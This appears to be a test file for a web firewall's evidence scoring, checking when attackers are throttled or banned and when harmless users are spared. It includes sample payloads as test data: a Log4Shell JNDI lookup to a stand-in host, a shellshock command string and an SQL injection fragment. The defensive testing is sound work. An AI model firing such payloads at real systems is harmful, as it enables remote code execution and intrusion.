import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { Alert } from '../../core/alert.ts'
import type { Event } from '../../core/event.ts'
import { type Reason, silent } from '../../core/reason.ts'
import { DAY, HOUR, MINUTE, SECOND } from '../../core/time.ts'
import { StateSpace } from '../../kit/state.ts'
import { attack, crowd, match, request, T0 } from './events.fixture.ts'
import { createEvidence } from './evidence.ts'

const ME = { scope: 'Ip', value: '198.51.100.7' } as const
const FREE = { restrained: false }

const run = (events: readonly Event[], state = new StateSpace()): Alert[] => {
  const room = createEvidence({}, state)
  return events.flatMap((event) => room.pour(event, FREE, silent))
}
const verdictsOf = (alerts: readonly Alert[]): string[] => alerts.map((a) => a.verdict)
const strongest = (events: readonly Event[]): string => {
  const verdicts = verdictsOf(run(events))
  return verdicts.includes('ban') ? 'ban' : verdicts.includes('throttle') ? 'throttle' : 'less'
}
const times = <T>(n: number, make: (i: number) => T): T[] => Array.from({ length: n }, (_, i) => make(i))
const at = (i: number, step = 10 * SECOND): number => T0 + MINUTE + i * step

const LONG_TEXT = `How do I write this? ${'select name from users where id = 1 and it goes on like this. '.repeat(5)}`

test('an attacker who varies inputs and payloads is banned, and the alert adds up line by line', () => {
  const alerts = run([...crowd(), ...times(8, (i) => attack(i, { at: at(i) }))])
  assert.deepEqual(verdictsOf(alerts).at(-1), 'ban')
  assert.ok(alerts.length <= 4, 'a verdict is told when it rises, not with every event')
  const ban = alerts.at(-1)!
  const weights = ban.reasons.flatMap((r) => r.weight ?? [])
  const sum = weights.reduce((a, b) => a + b, 0)
  assert.ok(sum >= 3, `the listed weights (${sum}) are the verdict`)
  assert.equal(ban.confidence, Math.round(100 / (1 + Math.exp(-sum))))
  assert.ok(ban.reasons.some((r) => r.code === 'evidence.probe.inputs'))
})

test('one hit is never more than watch, whatever the rule', () => {
  for (let i = 0; i < 8; i++) assert.equal(strongest([...crowd(), attack(i, { at: at(0) })]), 'less')
})

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: attack payloads look like templates
test('Log4Shell, shellshock and traps are proof at the first match', () => {
  const log4shell = match(932130, 'rce', 'REQUEST_HEADERS:User-Agent', '${${lower:j}ndi:ldap://x.example/a}')
  const shellshock = match(932170, 'rce', 'REQUEST_HEADERS:User-Agent', "() { :; }; /bin/sh -c 'id'")
  const trap = match(110, 'honeypot', 'ARGS:debug', '1')
  for (const proof of [log4shell, shellshock, trap]) {
    const alerts = run([request({ matches: [proof] })])
    assert.deepEqual(verdictsOf(alerts), ['ban'])
    assert.ok(alerts[0]!.reasons.some((r) => r.code === 'evidence.proof.single'))
  }
})

test('who writes about Log4Shell in a long text, or has a template in a field, is no attacker', () => {
  const essay = match(932130, 'rce', 'ARGS:body', `${LONG_TEXT} \${jndi:ldap://x}`)
  const template = match(932130, 'rce', 'ARGS:body', '${customer.name}')
  for (const m of [essay, template])
    assert.equal(strongest([...crowd(), request({ method: 'POST', at: at(0), matches: [m] })]), 'less')
})

// biome-ignore-end lint/suspicious/noTemplateCurlyInString: attack payloads look like templates

test('the same rule on the same input 200 times a day is one accident', () => {
  const autosave = (i: number): Event =>
    request({
      at: at(i, 7 * MINUTE),
      method: 'POST',
      uri: '/wp-admin/admin-ajax.php',
      session: 's-editor',
      matches: [match(941100, 'xss', 'ARGS:content', `<p style="x">${LONG_TEXT}${'more '.repeat(i % 9)}</p>`)],
    })
  assert.equal(strongest([...crowd(), ...times(200, autosave)]), 'less')
})

test('repeating a match adds nothing to the sum', () => {
  const lines = (n: number): number => {
    const room = createEvidence({}, new StateSpace())
    for (const event of crowd()) room.pour(event, FREE, silent)
    const heard: Reason[] = []
    const trace = { on: true, why: (r: Reason) => void heard.push(r) }
    for (let i = 0; i < n; i++) {
      heard.length = 0
      room.pour(attack(0, { at: at(i) }), FREE, trace)
    }
    return heard.reduce((sum, r) => sum + (r.weight ?? 0), 0)
  }
  const once = lines(1)
  for (const n of [2, 10, 300]) assert.ok(lines(n) <= once + 0.01, `${n} repetitions: ${lines(n)} > ${once}`)
})

test('a webhook sender with ever new documents stays free', () => {
  const hook = (i: number): Event =>
    request({
      at: at(i, MINUTE),
      method: 'POST',
      uri: '/hooks/build',
      agent: 'CodeHost-Hookshot/1',
      headers: [['Content-Type', 'application/json']],
      matches: [
        match(932100, 'rce', 'ARGS:payload', `{"commits":[{"message":"${LONG_TEXT}${i}"}]}`),
        match(942190, 'sqli', 'ARGS:payload', `{"commits":[{"message":"${LONG_TEXT}${i}"}]}`),
        match(941100, 'xss', `ARGS:json.c${i % 5}.body`, `line\n<script>\nx\n</script> ${LONG_TEXT}`),
      ],
    })
  assert.equal(strongest([...crowd(), ...times(120, hook)]), 'less')
})

test('short contents on one page are throttled at most while good requests come between', () => {
  const api = (i: number): Event =>
    i % 2 === 0
      ? request({ at: at(i), method: 'POST', uri: '/graphql', agent: 'app/1' })
      : request({
          at: at(i),
          method: 'POST',
          uri: '/graphql',
          agent: 'app/1',
          matches: [
            match(932100, 'rce', 'ARGS:json.query', `{f${'abcdefghijklmnop'[i % 16]}${'xyzuvw'[i % 6]}(a:1){id}}`),
          ],
        })
  assert.notEqual(strongest([...crowd(), ...times(100, api)]), 'ban')
})

test('clean requests of the same session speak for a client, those of others do not', () => {
  const shopping = times(20, (i) => request({ at: at(i), uri: `/page/${i}`, session: 's-me' }))
  const own = times(3, (i) => attack(i, { at: at(30 + i), session: 's-me' }))
  const detached = times(3, (i) => attack(i, { at: at(30 + i), agent: 'tool/1' }))
  const sum = (events: Event[]): number => run([...crowd(), ...events]).at(-1)?.confidence ?? 0
  assert.ok(sum([...shopping, ...own]) < sum([...shopping, ...detached]))
})

test('what several harmless clients trip on a site counts little, what a scanner trips stays', () => {
  const odd = (ip: string, t: number, path: string): Event =>
    request({ at: t, ip, uri: path, session: `s-${ip}`, matches: [match(942100, 'sqli', 'ARGS:q', "rock 'n' roll")] })
  const learn = times(8, (i) => i).flatMap((i) => [
    ...times(4, (k) => request({ at: at(i * 6 + k), ip: `192.0.2.${i}`, uri: '/', session: `s-192.0.2.${i}` })),
    odd(`192.0.2.${i}`, at(i * 6 + 5), '/search'),
  ])
  const heard: Reason[] = []
  const payloads = (path: string): number => {
    const room = createEvidence({}, new StateSpace())
    for (const event of [...crowd(), ...learn]) room.pour(event, FREE, silent)
    heard.length = 0
    room.pour(odd('198.51.100.7', at(100), path), FREE, { on: true, why: (r) => void heard.push(r) })
    return heard.find((r) => r.code === 'evidence.probe.payloads')?.weight ?? 0
  }
  assert.ok(payloads('/search') < 0.5 * payloads('/elsewhere'))
})

test('an address that several people share is throttled, not banned', () => {
  const office = times(30, (i) => request({ at: at(i), uri: `/page/${i}`, session: `s-${i % 5}` }))
  const evil = times(12, (i) => attack(i, { at: at(40 + i), session: 's-evil' }))
  const alerts = run([...crowd(), ...office, ...evil])
  assert.ok(!verdictsOf(alerts).includes('ban'))
  assert.ok(verdictsOf(alerts).includes('throttle'))
  assert.ok(alerts.at(-1)!.conduct!.sessions >= 2)
})

test('inventing a session per request buys no immunity', () => {
  const evil = times(12, (i) => attack(i, { at: at(i), session: `s-${i}` }))
  assert.equal(strongest([...crowd(), ...evil]), 'ban')
})

test('password guessing is throttled, a forgetful person and a broken front end are not', () => {
  const login = (i: number, status: number, extra = {}): Event =>
    request({ at: at(i, 2 * SECOND), method: 'POST', uri: '/login', status, ...extra })
  assert.equal(strongest([...crowd(), ...times(12, (i) => login(i, 401))]), 'throttle')
  assert.equal(strongest([...crowd(), ...times(30, (i) => login(i, 200))]), 'throttle')
  const person = times(4, (i) => i).flatMap((i) => [
    request({ at: at(4 * i), uri: '/login' }),
    request({ at: at(4 * i + 1), uri: '/site.css' }),
    login(5 * (4 * i + 2), 401),
  ])
  assert.equal(strongest([...crowd(), ...person]), 'less')
  const polling = times(80, (i) => request({ at: at(i), uri: '/api/v1/session', status: 401, agent: 'MyShop/5' }))
  assert.equal(strongest([...crowd(), ...polling]), 'less')
})

test('a sweep for missing pages is throttled, a monitor of one missing page and a crawler of dead links are not', () => {
  const word = (i: number): string =>
    `/${String.fromCharCode(97 + (i % 26))}${String.fromCharCode(97 + Math.floor(i / 26))}dir`
  const sweep = times(60, (i) => request({ at: at(i, SECOND), uri: word(i), status: 404 }))
  assert.equal(strongest([...crowd(), ...sweep]), 'throttle')
  const monitor = times(200, (i) => request({ at: at(i), uri: '/status-old', status: 404, agent: 'uptime/1' }))
  assert.equal(strongest([...crowd(), ...monitor]), 'less')
  const crawler = times(120, (i) =>
    request({ at: at(i), uri: word(i), status: i % 2 === 0 ? 200 : 404, agent: 'bot/1' }),
  )
  assert.equal(strongest([...crowd(), ...crawler]), 'less')
})

test('statuses alone never ban', () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.record({
          path: fc.webPath(),
          status: fc.constantFrom(200, 301, 401, 403, 404, 429, 500),
          post: fc.boolean(),
        }),
        {
          maxLength: 200,
        },
      ),
      (list) => {
        const events = list.map((e, i) =>
          request({ at: at(i, SECOND), uri: e.path || '/', status: e.status, method: e.post ? 'POST' : 'GET' }),
        )
        return strongest([...crowd(), ...events]) !== 'ban'
      },
    ),
    { numRuns: 60 },
  )
})

test('a log that shows only matches does not make innocents of yesterday attackers', () => {
  const innocent = [0, 3].map((i) => attack(i, { at: at(i), session: 's-me' }))
  assert.equal(strongest(innocent), 'less')
  const sum = (events: Event[]): number => run(events).at(-1)?.confidence ?? 0
  assert.ok(sum(innocent) <= sum([...crowd(), ...innocent]), 'not seeing clean requests never accuses')
})

test('rules beyond paranoia level 1 and rules of ours are no evidence', () => {
  const noisy = times(100, (i) =>
    request({
      at: at(i),
      uri: `/a${i}`,
      status: 200,
      matches: [match(942430, 'sqli', `ARGS:p${i}`, `(${i})';--`, { paranoiaLevel: 2 })],
    }),
  )
  assert.equal(strongest([...crowd(), ...noisy]), 'less')
  const ours = times(100, (i) =>
    request({ at: at(i), matches: [match(9000, 'other', 'REMOTE_ADDR', 'x', { tags: ['riposte/ban'] })] }),
  )
  assert.deepEqual(run([...crowd(), ...ours]), [])
})

test('a log of denials without their rules: different scores tell, the same denial on every page does not', () => {
  const denial = (i: number, score: number): Event => ({
    ...request({
      at: at(i),
      uri: `/p${'abcdefghijklmnopqrstuvwxyz'[i % 26]}`,
      matches: [match(949110, 'other', 'TX:ANOMALY_SCORE', String(score), { evaluation: true })],
    }),
    attackClasses: [],
    anomalyScore: score,
  })
  assert.equal(strongest(times(60, (i) => denial(i, 5))), 'less')
  assert.notEqual(strongest(times(60, (i) => denial(i, 5 * (1 + (i % 12))))), 'less')
})

test('a search that was blocked and retried is one probe, though the next page names it as referrer', () => {
  const uri = "/search?q=x'+or+1=1"
  const referer = `https://shop.example.net${uri}`
  const blocked = request({ at: at(0), uri, matches: [match(942100, 'sqli', 'ARGS:q', "x' or 1=1")] })
  const next = (i: number): Event =>
    request({
      at: at(i),
      uri: `/product/${i}`,
      headers: [
        ['Referer', referer],
        ['Accept-Language', 'en'],
      ],
      matches: [match(942100, 'sqli', 'REQUEST_HEADERS:Referer', referer)],
    })
  assert.equal(strongest([...crowd(), blocked, ...times(20, (i) => next(i + 1))]), 'less')
})

test('the order of magnitude: a thousand attacks make a handful of alerts', () => {
  const alerts = run([...crowd(), ...times(1000, (i) => attack(i, { at: at(i, SECOND) }))])
  assert.ok(alerts.length >= 2 && alerts.length <= 12, `${alerts.length} alerts`)
})

test('evidence fades: what happened days ago does not add up', () => {
  const slow = times(8, (i) => [
    attack(i, { at: T0 + i * 2 * DAY, session: 's-me' }),
    ...times(20, (k) => request({ at: T0 + i * 2 * DAY + k * MINUTE, uri: `/page/${k}`, session: 's-me' })),
  ]).flat()
  assert.equal(strongest([...crowd(), ...slow]), 'less')
})

test('an odd client that never pauses does not collect oddities for ever', () => {
  const odd = times(60, (i) =>
    request({
      at: T0 + i * 12 * HOUR,
      status: 200,
      matches: [match(920000 + (i % 12) * 10, 'protocol', 'REQUEST_HEADERS:X', 'x')],
    }),
  )
  assert.equal(strongest([...crowd(), ...odd]), 'less')
})

test('standing and conduct report what is held, forget drops it', () => {
  const state = new StateSpace()
  const room = createEvidence({}, state)
  for (const event of [...crowd(), ...times(8, (i) => attack(i, { at: at(i) }))]) room.pour(event, FREE, silent)
  const now = at(9)
  assert.equal(room.standing(ME, now)?.verdict, 'ban')
  const conduct = room.conduct(ME, now)!
  assert.deepEqual([conduct.requests, conduct.matched, conduct.clean], [8, 8, 0])
  assert.ok(conduct.clientsSeen >= 12 && conduct.clientsSeen <= 14)
  room.forget(ME, now)
  assert.equal(room.standing(ME, now), undefined)
  assert.equal(room.conduct(ME, now), undefined)
})

test('asking for the standing changes nothing that a snapshot would show', () => {
  const state = new StateSpace()
  const room = createEvidence({}, state)
  for (const event of times(4, (i) => attack(i, { at: at(i) }))) room.pour(event, FREE, silent)
  const before = JSON.stringify([...state.table('evidence.actor').entries(at(4))])
  room.standing(ME, at(4) + 5 * HOUR)
  assert.equal(JSON.stringify([...state.table('evidence.actor').entries(at(4))]), before)
})

test('explaining an event does not change what follows', () => {
  const events = [...crowd(), ...times(12, (i) => attack(i, { at: at(i) }))]
  const quiet = run(events)
  const room = createEvidence({}, new StateSpace())
  const loud = events.flatMap((event) => room.pour(event, FREE, { on: true, why() {} }))
  assert.deepEqual(loud, quiet)
})

/** Awkward but harmless: what people and programs send that trips a rule. Inputs are few, wordings are many. */
const AWKWARD = [
  ['/search', 'ARGS:q', 942100, 'sqli', 'rock and roll; drop in any time'],
  ['/search', 'ARGS:q', 941160, 'xss', 'how to center <div in a page'],
  ['/api/items', 'ARGS:json.text', 932115, 'rce', 'Runs small; select one size up please'],
  ['/api/items', 'ARGS:json.text', 933160, 'php', 'the exec (chief) of sales said hello'],
  ['/review', 'ARGS:body', 942190, 'sqli', LONG_TEXT],
  ['/page/edit', 'ARGS:content', 941100, 'xss', `<p>${LONG_TEXT}</p>`],
  ['/', 'REQUEST_COOKIES:prefs', 942100, 'sqli', '<redacted>'],
] as const

const textOf = (value: string, word: string): string => (value === '<redacted>' ? value : `${word} ${value}`)

test('people with awkward texts, however many, are not banned while most of what they do is clean', () => {
  const step = fc.record({
    text: fc.integer({ min: 0, max: AWKWARD.length - 1 }),
    word: fc.constantFrom('alpha', 'beta', 'gamma', 'delta', 'epsilon', 'zeta', 'eta', 'theta'),
    bare: fc.boolean(),
  })
  fc.assert(
    fc.property(fc.array(step, { minLength: 5, maxLength: 150 }), (steps) => {
      let accidents = 0
      const events = steps.flatMap(({ text, word, bare }, i) => {
        const [uri, variable, rule, attackClass, value] = AWKWARD[text]!
        const odd = bare && accidents < 2
        if (odd) accidents++
        const hit = match(rule, attackClass, variable, odd ? `c:\\${word}>x` : textOf(value, word))
        const like = { session: 's-me', method: 'POST', uri }
        return [
          request({ ...like, at: at(3 * i), matches: [hit] }),
          request({ ...like, at: at(3 * i + 1) }),
          request({ ...like, at: at(3 * i + 2), method: 'GET', uri: `/page/${i}` }),
        ]
      })
      assert.notEqual(strongest([...crowd(), ...events]), 'ban')
    }),
    { numRuns: 60 },
  )
})

/** Mixed traffic of three addresses: every kind of event that the room distinguishes. */
const mixed = fc
  .array(
    fc.record({
      who: fc.integer({ min: 1, max: 3 }),
      what: fc.integer({ min: 0, max: 11 }),
      session: fc.option(fc.integer({ min: 0, max: 4 })),
      gap: fc.constantFrom(0, SECOND, MINUTE, 20 * MINUTE, 3 * HOUR),
    }),
    { minLength: 1, maxLength: 80 },
  )
  .map((list) => {
    let time = T0
    return list.map(({ who, what, session, gap }) => {
      time += gap
      const like = { at: time, ip: `198.51.100.${who}`, ...(session === null ? {} : { session: `s-${session}` }) }
      if (what < 8) return attack(what, like)
      if (what === 8) return request({ ...like, uri: '/login', method: 'POST', status: 401 })
      if (what === 9) return request({ ...like, uri: '/nowhere', status: 404 })
      return request({ ...like, uri: `/page/${what}` })
    })
  })

test('a snapshot taken anywhere goes on with the same alerts', () => {
  fc.assert(
    fc.property(mixed, fc.nat(), (events, where) => {
      const cut = where % (events.length + 1)
      const undisturbed = run(events)
      const first = new StateSpace()
      const room = createEvidence({}, first)
      const before = events.slice(0, cut).flatMap((event) => room.pour(event, FREE, silent))
      const second = new StateSpace()
      second.restore(JSON.parse(JSON.stringify(first.drain())))
      const after = run(events.slice(cut), second)
      assert.deepEqual([...before, ...after], undisturbed)
    }),
    { numRuns: 150 },
  )
})

test('a sweep of dead rows anywhere is invisible', () => {
  fc.assert(
    fc.property(mixed, fc.nat(), (events, where) => {
      const cut = where % (events.length + 1)
      const state = new StateSpace()
      const room = createEvidence({}, state)
      const alerts = events.flatMap((event, i) => {
        if (i === cut) state.sweep(event.time)
        return room.pour(event, FREE, silent)
      })
      assert.deepEqual(alerts, run(events))
    }),
    { numRuns: 100 },
  )
})

test('shifting the time of everything shifts the alerts and nothing else', () => {
  fc.assert(
    fc.property(mixed, fc.integer({ min: -400, max: 400 }), (events, days) => {
      const shift = days * DAY + 1234
      const shifted = run(events.map((event) => ({ ...event, time: event.time + shift })))
      assert.deepEqual(
        shifted.map((a) => ({ ...a, startedAt: a.startedAt - shift, stoppedAt: a.stoppedAt - shift })),
        run(events),
      )
    }),
    { numRuns: 100 },
  )
})

test('hostile texts in every field: no throw, bounded rows', () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.record({
          v: fc.string({ unit: 'binary', maxLength: 600 }),
          d: fc.string({ unit: 'binary', maxLength: 600 }),
          p: fc.string({ maxLength: 2000 }),
        }),
        {
          minLength: 1,
          maxLength: 120,
        },
      ),
      (list) => {
        const state = new StateSpace()
        const room = createEvidence({}, state)
        list.forEach(({ v, d, p }, i) => {
          const m = { ...match(942100 + i, 'sqli', v, d), data: d }
          room.pour(request({ at: at(i), uri: p, agent: v, session: d, host: v, matches: [m] }), FREE, silent)
        })
        for (const row of state.drain())
          assert.ok((row.value?.length ?? 0) < 12_000, `${row.table} ${row.value?.length}`)
      },
    ),
    { numRuns: 40 },
  )
})
